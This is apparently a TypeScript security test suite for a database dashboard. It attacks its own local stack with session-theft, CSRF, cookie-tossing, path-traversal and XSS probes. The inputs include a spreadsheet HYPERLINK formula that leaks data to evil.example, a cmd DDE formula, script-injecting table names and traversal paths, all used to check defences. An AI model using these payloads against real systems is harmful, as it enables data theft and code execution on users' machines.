/**
 * Review: attacks on the dashboard's cookie sessions, its new data routes and the SPA, against a
 * real `bulwark up` (PostgreSQL, PgBouncer, agent) and Debian's Chromium. Findings are `todo`
 * tests (they fail until fixed, without failing the suite); the rest are attacks that held.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import pg from 'pg';
import type { Browser, Page } from 'playwright-core';
import { base32Decode, totpAt } from '../src/server/modules/people/totp.ts';
import { launchChromium } from './helpers/browser.ts';
import { type DashboardStack, startDashboardStack } from './helpers/dashboard-stack.ts';
import { type CookieClient, call, loginCookie, redeemCookie } from './helpers/review-dash-session.ts';

const ADMIN_PW = 'review root passphrase 0001';
const MEMBER_PW = 'review member passphrase 02';
const VIEWER_PW = 'review viewer passphrase 03';
const DB = 'victim';
/** Hostile names a tenant owner plants in its own database. */
const T_HTML = '<img src=x onerror=window.__xss=1>';
const C_SCRIPT = '<script>window.__xss=2</script>';
const C_JS = 'javascript:window.__xss=3';
const C_BIDI = '\u202Egnp.exe';
const TYPE_SVG = '<svg onload=window.__xss=4>';

let stack: DashboardStack;
let base: string;
let admin: CookieClient;
let member: CookieClient;
let viewer: CookieClient;
let browser: Browser | undefined;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/**
 * The admin's own second session, re-authenticated (the step-up window), for the setup's invites
 * and keys. The `admin` session the attacks use never re-authenticates: it is what a thief holds.
 */
let setup: CookieClient | undefined;
async function setupSession(): Promise<CookieClient> {
  if (setup) return setup;
  setup = await loginCookie(base, 'root', ADMIN_PW);
  const reauth = await setup.write('POST', '/v1/auth/reauth', { password: ADMIN_PW });
  assert.equal(reauth.status, 200, reauth.text);
  return setup;
}

async function invite(role: string): Promise<string> {
  const r = await (await setupSession()).write('POST', '/v1/invites', { count: 1, role });
  assert.equal(r.status, 201, r.text);
  return r.json.invites[0].code;
}

before(async () => {
  stack = await startDashboardStack();
  base = stack.url;
  const code = stack.firstAdminLink.split('#invite=')[1]!;
  admin = await redeemCookie(base, code, 'root', ADMIN_PW);
  member = await redeemCookie(base, await invite('member'), 'mallory', MEMBER_PW);
  viewer = await redeemCookie(base, await invite('viewer'), 'victor', VIEWER_PW);
  assert.equal((await admin.write('POST', '/v1/databases', { name: DB })).status, 202);
  const deadline = Date.now() + 30_000;
  while ((await admin.get(`/v1/databases/${DB}`)).json.status !== 'ready') {
    if (Date.now() > deadline) throw new Error('database not ready in 30 s');
    await sleep(200);
  }
  // The tenant owner, through PgBouncer, plants hostile names for the dashboard to show.
  assert.equal(
    (await admin.write('POST', `/v1/databases/${DB}/allowlist`, { cidr: '127.0.0.1/32' })).status,
    200,
  );
  const pw = (await admin.write('POST', `/v1/databases/${DB}/credentials/reveal`, { password: ADMIN_PW }))
    .json.password;
  const conn = (await admin.get(`/v1/databases/${DB}/connection`)).json;
  let owner: pg.Client | undefined;
  for (let i = 0; !owner; i++) {
    const c = new pg.Client({
      host: '127.0.0.1',
      port: stack.ports.pooler,
      user: conn.user,
      database: conn.database,
      password: pw,
      connectionTimeoutMillis: 5_000,
    });
    c.on('error', () => {});
    try {
      await c.connect();
      owner = c;
    } catch (err) {
      if (i > 50) throw err;
      await sleep(200); // the allowlist reaches the pooler's hba
    }
  }
  await owner.query(
    `CREATE TABLE public."${T_HTML}" ("${C_SCRIPT}" text, "${C_JS}" int, "${C_BIDI}" text);
     CREATE DOMAIN public."${TYPE_SVG}" AS text;
     CREATE TABLE public.t2 (d public."${TYPE_SVG}");
     INSERT INTO public."${T_HTML}" VALUES ('<img src=x onerror=window.__xss=6>', 1, 'javascript:alert(1)')`,
  );
  await owner.end();
});

after(async () => {
  await browser?.close().catch(() => {});
  await stack?.destroy();
});

describe('re-authentication before a reveal', () => {
  test('a stolen session alone must not reveal a password: it can enrol its own TOTP and answer with it', async () => {
    // The attacker holds the member's session cookie (and its CSRF token), not the password.
    const refused = await member.write('POST', `/v1/databases/${DB}/credentials/reveal`, {});
    assert.equal(refused.status, 403);
    assert.equal(refused.json.error.code, 'reauth_required');
    const enrol = await member.write('POST', '/v1/me/totp');
    const secret = enrol.status === 200 ? base32Decode(enrol.json.secret) : null;
    if (secret) await member.write('POST', '/v1/me/totp/confirm', { code: totpAt(secret, Date.now()) });
    // The next step's code (each step is accepted once; the next one is in the window).
    const code = secret ? totpAt(secret, Date.now() + 30_000) : '000000';
    const r = await member.write('POST', `/v1/databases/${DB}/credentials/reveal`, { totp_code: code });
    assert.notEqual(r.status, 200, `the session revealed the password: ${r.text}`);
  });

  test('a stolen admin session must not reveal a password by minting an API key (keys skip re-auth)', async () => {
    const minted = await admin.write('POST', '/v1/keys', { name: 'review-minted', level: 'write' });
    const key = minted.status === 201 ? (minted.json.key as string) : null;
    const r = key
      ? await call(base, 'POST', `/v1/databases/${DB}/credentials/reveal`, {
          headers: { authorization: `Bearer ${key}` },
        })
      : minted;
    assert.notEqual(r.status, 200, 'a key minted by the session alone revealed the password');
  });

  test('held: a viewer is refused; a wrong password is reauth_failed', async () => {
    const v = await viewer.write('POST', `/v1/databases/${DB}/credentials/reveal`, { password: VIEWER_PW });
    assert.equal(v.status, 403);
    assert.equal(v.json.error.code, 'forbidden');
    const fresh = await loginCookie(base, 'root', ADMIN_PW);
    const w = await fresh.write('POST', `/v1/databases/${DB}/credentials/reveal`, {
      password: 'not it at all 1234',
    });
    assert.equal(w.status, 403);
    assert.equal(w.json.error.code, 'reauth_failed');
  });
});

describe('explorer CSV download', () => {
  test('a cell that a spreadsheet runs as a formula is neutralised, number-like prefixes included', async () => {
    const payload = '-1+HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    const r = await admin.write('POST', `/v1/databases/${DB}/explorer/query?format=csv`, {
      sql: `SELECT '${payload.replaceAll("'", "''")}' AS a, '+1+cmd|''/C calc''!A0' AS b, '=1+1' AS c`,
    });
    assert.equal(r.status, 200, r.text);
    const row = r.text.split('\r\n')[1]!;
    assert.match(row, /,'=1\+1$/); // the plain case is escaped (held)
    const first = row.startsWith('"') ? row.slice(1) : row;
    assert.ok(first.startsWith("'"), `formula reaches the spreadsheet unescaped: ${row}`);
    assert.ok(row.includes(",'+1+cmd"), `formula reaches the spreadsheet unescaped: ${row}`);
  });
});

describe('cross-site requests with the cookie session', () => {
  test('held: every cross-site shape of a write is csrf_failed', async () => {
    const cookie = { cookie: `__Host-bulwark_session=${admin.access}` };
    const body = JSON.stringify({ name: 'csrf-probe', level: 'read' });
    const shapes: Record<string, string>[] = [
      { origin: base, 'content-type': 'application/json' }, // no token
      { origin: 'null', 'x-csrf-token': admin.csrf, 'content-type': 'application/json' },
      { 'sec-fetch-site': 'same-site', 'x-csrf-token': admin.csrf, 'content-type': 'application/json' },
      { 'sec-fetch-site': 'cross-site', 'x-csrf-token': admin.csrf, 'content-type': 'application/json' },
      { origin: 'http://127.0.0.1:1', 'x-csrf-token': admin.csrf, 'content-type': 'application/json' },
      { origin: `${base}.evil.example`, 'x-csrf-token': admin.csrf, 'content-type': 'application/json' },
      // Off by its last character (never the same character: one token in 64 ends with it).
      {
        origin: base,
        'x-csrf-token': `${admin.csrf.slice(0, -1)}${admin.csrf.endsWith('A') ? 'B' : 'A'}`,
        'content-type': 'application/json',
      },
      { origin: base, 'content-type': 'text/plain' },
      { origin: base, 'content-type': 'application/x-www-form-urlencoded' },
    ];
    for (const h of shapes) {
      const r = await call(base, 'POST', '/v1/keys', { raw: body, headers: { ...cookie, ...h } });
      assert.equal(r.status, 403, JSON.stringify(h));
      assert.equal(r.json.error.code, 'csrf_failed', JSON.stringify(h));
    }
    // Another session's token is refused.
    const other = await call(base, 'POST', '/v1/keys', {
      raw: body,
      headers: { ...cookie, origin: base, 'x-csrf-token': member.csrf, 'content-type': 'application/json' },
    });
    assert.equal(other.status, 403);
    // Login CSRF: a form or text/plain post cannot sign a browser in; nor can another site's page.
    const creds = JSON.stringify({ username: 'root', password: ADMIN_PW, session: 'cookie' });
    const loginShapes: Record<string, string>[] = [
      { 'content-type': 'text/plain' },
      { 'content-type': 'application/json', 'sec-fetch-site': 'cross-site' },
    ];
    for (const h of loginShapes) {
      const r = await call(base, 'POST', '/v1/auth/login', { raw: creds, headers: h });
      assert.notEqual(r.status, 200, JSON.stringify(h));
      assert.equal(r.cookies['__Host-bulwark_session'], undefined);
    }
    // No CORS grant: another origin never reads /v1/me (the CSRF token) with the cookie.
    const me = await admin.get('/v1/me', { origin: 'http://evil.example' });
    assert.equal(me.headers.get('access-control-allow-origin'), null);
    const pre = await call(base, 'OPTIONS', '/v1/keys', {
      headers: { origin: 'http://evil.example', 'access-control-request-method': 'POST' },
    });
    assert.equal(pre.headers.get('access-control-allow-origin'), null);
    // OIDC redirect: only a path on this site.
    for (const redirect of [
      '//evil.example',
      '/\\evil.example',
      'https://evil.example',
      '/\t/evil.example',
    ]) {
      const r = await call(
        base,
        'GET',
        `/v1/auth/oidc/start?session=cookie&redirect=${encodeURIComponent(redirect)}`,
      );
      assert.notEqual(r.status, 302, redirect);
    }
  });

  test('held: roles and key levels keep to their routes', async () => {
    const key = (
      await (await setupSession()).write('POST', '/v1/keys', { name: 'review-read', level: 'read' })
    ).json.key;
    const nodes = (await admin.get('/v1/nodes')).json.items;
    const asKey = (m: string, p: string, body?: unknown) =>
      call(base, m, p, { body, headers: { authorization: `Bearer ${key}` } });
    const routes: [string, string, unknown?][] = [
      ['GET', '/v1/nodes'],
      ['POST', `/v1/nodes/${nodes[0].id}/drift-check`],
      ['GET', '/v1/users'],
      ['POST', '/v1/invites', { count: 1, role: 'owner' }],
      ['GET', '/v1/audit/events'],
      ['POST', '/v1/keys', { name: 'x', level: 'admin' }],
      ['POST', `/v1/databases/${DB}/credentials/reveal`],
    ];
    for (const [m, p, body] of routes) {
      assert.equal((await viewer.write(m, p, body)).status, 403, `viewer ${m} ${p}`);
      assert.equal((await asKey(m, p, body)).status, 403, `read key ${m} ${p}`);
    }
    assert.equal((await member.write('GET', '/v1/nodes')).status, 403);
  });
});

describe('cookie tossing from a sibling host', () => {
  // `__Secure-` (unlike `__Host-`) allows a Domain attribute: a page on any sibling host
  // (evil.example.com next to bulwark.example.com) can set `__Secure-bulwark_refresh=<its own
  // refresh token>; Domain=example.com; Path=/v1/auth/refresh; Secure`, which the browser then sends
  // to this server's refresh route beside (or instead of) the victim's own. The refresh cookie is
  // now `__Host-bulwark_refresh` (no sibling can set a `__Host-` cookie): the `__Secure-` name is
  // all a sibling can still toss, and the server never reads it.
  const TOSSED = '__Secure-bulwark_refresh';
  const REFRESH = '__Host-bulwark_refresh';
  const refreshWith = (cookies: Record<string, string>, extra: string) =>
    call(base, 'POST', '/v1/auth/refresh', {
      headers: {
        cookie: [...Object.entries(cookies).map(([k, v]) => `${k}=${v}`), extra].filter(Boolean).join('; '),
        origin: base,
        'sec-fetch-site': 'same-origin',
      },
    });
  const whoAmI = async (r: Awaited<ReturnType<typeof call>>) => {
    const access = r.cookies['__Host-bulwark_session'];
    if (!access) return null;
    return (await call(base, 'GET', '/v1/me', { headers: { cookie: `__Host-bulwark_session=${access}` } }))
      .json.user?.username;
  };

  test('a tossed refresh cookie neither ends the victim’s session nor signs the browser in as someone else', async () => {
    const victim = await loginCookie(base, 'victor', VIEWER_PW);
    const attacker = await loginCookie(base, 'root', ADMIN_PW);
    const attackerRefresh = attacker.cookies[REFRESH]!;
    assert.ok(attackerRefresh, 'the refresh cookie is __Host-');
    // Beside the victim's own cookies: today the duplicate name makes the refresh a 401 (the victim is
    // signed out at the access token's expiry, every time, until they clear their cookies).
    const both = await refreshWith(victim.cookies, `${TOSSED}=${attackerRefresh}`);
    const bothUser = await whoAmI(both);
    // Alone (a signed-out victim): today the browser is signed in to the attacker's session.
    const alone = await refreshWith({}, `${TOSSED}=${attackerRefresh}`);
    const aloneUser = await whoAmI(alone);
    const seen = `beside the victim's: ${both.status} ${bothUser}; alone: ${alone.status} ${aloneUser}`;
    assert.equal(bothUser, 'victor', seen);
    assert.notEqual(aloneUser, 'root', seen);
  });
});

describe('static files', () => {
  test('held: no traversal, no source maps, no files outside web/dist, index.html only for app routes', async () => {
    for (const p of [
      '/assets/..%2f..%2fpackage.json',
      '/assets/%2e%2e/index.html',
      '/%2e%2e/%2e%2e/package.json',
      '/..%2f..%2fpackage.json',
      '/%5c..%5cpackage.json',
      '/package.json',
      '/.build-stamp',
      '/index.html',
      '/assets/index.html',
      '/foo%00.js',
    ]) {
      const r = await call(base, 'GET', p);
      assert.equal(r.status, 404, p);
      assert.match(r.headers.get('content-type') ?? '', /^application\/json/, p);
    }
    const page = await call(base, 'GET', '/databases');
    const scripts = [...page.text.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((m) => m[1]!);
    assert.ok(scripts.length > 0);
    for (const s of scripts) {
      const r = await call(base, 'GET', s);
      assert.equal(r.status, 200);
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
      assert.doesNotMatch(r.text, /sourceMappingURL=/, s);
      assert.equal((await call(base, 'GET', `${s}.map`)).status, 404);
    }
    assert.equal(page.headers.get('x-frame-options'), 'DENY');
    assert.match(page.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/);
  });
});

describe('the explorer page with a tenant owner’s hostile names', () => {
  let page: Page;
  const events: string[] = [];

  before(async () => {
    browser = await launchChromium();
    const ctx = await browser.newContext();
    page = await ctx.newPage();
    page.setDefaultTimeout(15_000);
    page.on('pageerror', (e) => events.push(`pageerror: ${e.message}`));
    page.on('dialog', (d) => {
      events.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    page.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) events.push(`csp: ${m.text()}`);
    });
    await page.goto(`${base}/sign-in`);
    await page.getByLabel('Username').fill('root');
    await page.getByLabel('Password', { exact: true }).fill(ADMIN_PW);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL((u) => !u.pathname.startsWith('/sign-in'));
    await page.goto(`${base}/databases/${DB}/explorer`);
    await page.getByRole('button', { name: T_HTML, exact: true }).click();
    await page.getByRole('button', { name: 't2', exact: true }).click();
    const editor = page.getByRole('textbox', { name: 'SQL query' });
    await editor.click();
    await page.keyboard.press('Control+A');
    await page.keyboard.type(
      `SELECT *, '<img src=x onerror=window.__xss=7>'::text AS "<img src=x onerror=window.__xss=8>" FROM public."${T_HTML}"`,
    );
    await page.getByRole('button', { name: 'Run query' }).click();
    await page.getByRole('table', { name: 'Query results' }).waitFor();
  });

  test('held: names, types, cells and error messages are text; nothing runs, no CSP violation', async () => {
    const editor = page.getByRole('textbox', { name: 'SQL query' });
    await editor.click();
    await page.keyboard.press('Control+A');
    await page.keyboard.type('SELECT 1 FROM "<img src=x onerror=window.__xss=9>"');
    await page.getByRole('button', { name: 'Run query' }).click();
    await page.getByRole('alert').filter({ hasText: 'does not exist' }).waitFor();
    assert.equal(await page.evaluate('window.__xss ?? null'), null);
    assert.equal(await page.locator('#root img, #root svg[onload], #root script').count(), 0);
    await page.getByText(C_SCRIPT, { exact: true }).first().waitFor();
    assert.deepEqual(events, []);
  });

  test('a Unicode bidi override in a column name does not spill over the text beside it', async () => {
    // Each tenant-controlled name must be isolated (<bdi> or unicode-bidi: isolate/plaintext),
    // else "\u202Egnp.exe" followed by its type "text" reads as "txet exe.png".
    // Only elements holding the name alone count (a list item holding the name and its type
    // isolates both together, which is the spill-over itself).
    const isolated: boolean[] = await page.getByText(C_BIDI, { exact: true }).evaluateAll(
      // biome-ignore lint/suspicious/noExplicitAny: DOM elements in the page (no DOM types here)
      (els: any[]) =>
        els.map((el) => {
          for (let e = el; e && e.textContent === el.textContent; e = e.parentElement) {
            if (e.tagName === 'BDI') return true;
            // biome-ignore lint/suspicious/noExplicitAny: the page's window
            if (/isolate|plaintext/.test((globalThis as any).getComputedStyle(e).unicodeBidi)) return true;
          }
          return false;
        }),
    );
    assert.ok(isolated.length > 0, 'the name is shown');
    assert.ok(isolated.every(Boolean), `not isolated: ${JSON.stringify(isolated)}`);
  });
});
